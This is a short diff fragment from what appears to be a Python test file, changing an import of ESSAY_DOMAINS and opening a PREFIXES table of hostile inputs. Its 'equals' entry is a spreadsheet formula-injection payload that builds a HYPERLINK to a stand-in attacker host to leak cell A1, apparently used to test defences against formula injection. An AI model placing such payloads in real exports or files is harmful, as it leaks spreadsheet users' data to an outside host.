@@ -15,7 +15,7 @@ from app.extensions import db
 from app.people.models import Role
 from app.reconcile.models import Decision, DecisionValue
 from tests import factories as f
-from tests.hostile.world import ESSAY_DOMAINS
+from tests.factories import ESSAY_DOMAINS
 
 PREFIXES = {
     "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
